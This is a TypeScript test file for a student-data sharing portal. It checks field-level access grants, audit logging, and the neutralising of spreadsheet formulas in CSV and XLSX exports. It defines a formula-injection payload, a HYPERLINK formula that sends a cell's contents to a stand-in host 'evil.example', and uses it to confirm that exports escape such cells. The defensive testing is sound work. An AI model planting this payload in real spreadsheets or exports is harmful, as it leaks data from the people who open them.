import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { loadAccess } from '../../lib/server/auth/access';
import { exportSharedStudents } from '../../lib/server/sharing/export-shared';
import { listSharedStudents } from '../../lib/server/sharing/list-shared';
import { setOfficeGrant } from '../../lib/server/sharing/set-grant';
import { freshDb, type TestDb } from '../helpers/db';
import { makeOfficeWithGrant, makeVerifiedStudent } from '../helpers/sharing';
import { makeDepartment, makeStaff } from '../factories';

let t: TestDb;
let office: { id: string; code: string };
let reader: Awaited<ReturnType<typeof makeStaff>>, admin: Awaited<ReturnType<typeof makeStaff>>;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

beforeAll(async () => {
  t = await freshDb();
  const dept = await makeDepartment(t.db);
  office = await makeOfficeWithGrant(t.db, ['student_number', 'name']);
  reader = await makeStaff(t.db, 'office', { officeCode: office.code });
  admin = await makeStaff(t.db, 'admin');
  await makeVerifiedStudent(t.db, dept.id, { name: EVIL });
  for (let i = 0; i < 3; i++) await makeVerifiedStudent(t.db, dept.id, { name: `+学生${i}`, cohort: 2024 });
});
afterAll(async () => t?.cleanup());

const lastAudit = async (action: string) =>
  (
    await t.db.query<{ details: Record<string, unknown>; actor_id: string }>(
      'select details, actor_id from public.audit_events where action = $1 order by id desc limit 1',
      [action],
    )
  )[0]!;

it('the portal lists exactly the granted fields and audits the view with office, fields and count', async () => {
  const r = await listSharedStudents({ access: await loadAccess(reader.ctx), input: {} });
  expect(r.total).toBe(4);
  for (const row of r.rows) expect(Object.keys(row.fields).sort()).toEqual(['name', 'student_number']);
  const a = await lastAudit('sharing.view');
  expect(a.actor_id).toBe(reader.id);
  expect(a.details).toMatchObject({ office_id: office.id, fields: ['student_number', 'name'], count: 4 });
  // Filtering by an ungranted column (cohort) matches nothing instead of revealing it.
  const byCohort = await listSharedStudents({ access: await loadAccess(reader.ctx), input: { cohort: '2024' } });
  expect(byCohort.total).toBe(0);
  expect((await lastAudit('sharing.search')).details).toMatchObject({ count: 0, filters: ['cohort'] });
  const search = await listSharedStudents({ access: await loadAccess(reader.ctx), input: { q: '学生1' } });
  expect(search.rows.map((x) => x.fields.name)).toEqual(['+学生1']);
  // Not an office reader: refused.
  await expect(listSharedStudents({ access: await loadAccess(admin.ctx), input: {} })).rejects.toMatchObject({ code: 'forbidden' });
});

async function readAll(s: ReadableStream<Uint8Array>): Promise<Buffer> {
  const chunks: Uint8Array[] = [];
  const reader = s.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    chunks.push(value);
  }
  return Buffer.concat(chunks);
}

it('CSV export has only granted columns, neutralises formula-like cells, and is audited with count and fields', async () => {
  const { stream } = await exportSharedStudents({ access: await loadAccess(reader.ctx), input: {}, format: 'csv', header: (f) => f });
  const text = (await readAll(stream)).toString('utf8');
  const lines = text
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\r\n');
  expect(lines[0]).toBe('student_number,name');
  expect(lines).toHaveLength(5);
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`);
  expect(text).toContain(",'+学生0");
  expect(text).not.toMatch(/,=HYPERLINK/);
  const a = await lastAudit('sharing.export');
  expect(a.details).toMatchObject({ office_id: office.id, format: 'csv', fields: ['student_number', 'name'], count: 4, completed: true });
});

it('XLSX export writes neutralised text cells only, no formulas', async () => {
  const { stream } = await exportSharedStudents({ access: await loadAccess(reader.ctx), input: {}, format: 'xlsx', header: (f) => f });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await readAll(stream)) as never);
  const ws = wb.worksheets[0]!;
  expect(ws.getRow(1).values).toEqual([undefined, 'student_number', 'name']);
  const names: unknown[] = [];
  ws.eachRow((row, n) => {
    if (n > 1) names.push(row.getCell(2).value);
    row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula));
  });
  expect(names).toContain(`'${EVIL}`);
  expect((await lastAudit('sharing.export')).details).toMatchObject({ format: 'xlsx', count: 4 });
});

it('a grant change is audited with before and after, and a repeated save is a no-op', async () => {
  const a = await loadAccess(admin.ctx);
  expect((await setOfficeGrant({ access: a, input: { officeId: office.id, fields: ['student_number', 'name', 'cohort'] } })).changed).toBe(true);
  expect((await setOfficeGrant({ access: a, input: { officeId: office.id, fields: ['cohort', 'student_number', 'name'] } })).changed).toBe(false);
  const ev = await lastAudit('sharing.grant_set');
  expect(ev.details).toMatchObject({ office_id: office.id, fields: ['student_number', 'name', 'cohort'], before: { fields: ['student_number', 'name'] } });
  const r = await listSharedStudents({ access: await loadAccess(reader.ctx), input: { cohort: '2024' } });
  expect(r.total).toBe(3);
  await expect(setOfficeGrant({ access: a, input: { officeId: office.id, fields: ['password'] as never } })).rejects.toMatchObject({ code: 'invalid_input' });
  await expect(setOfficeGrant({ access: await loadAccess(reader.ctx), input: { officeId: office.id, fields: ['phone'] } })).rejects.toMatchObject({
    code: 'forbidden',
  });
});
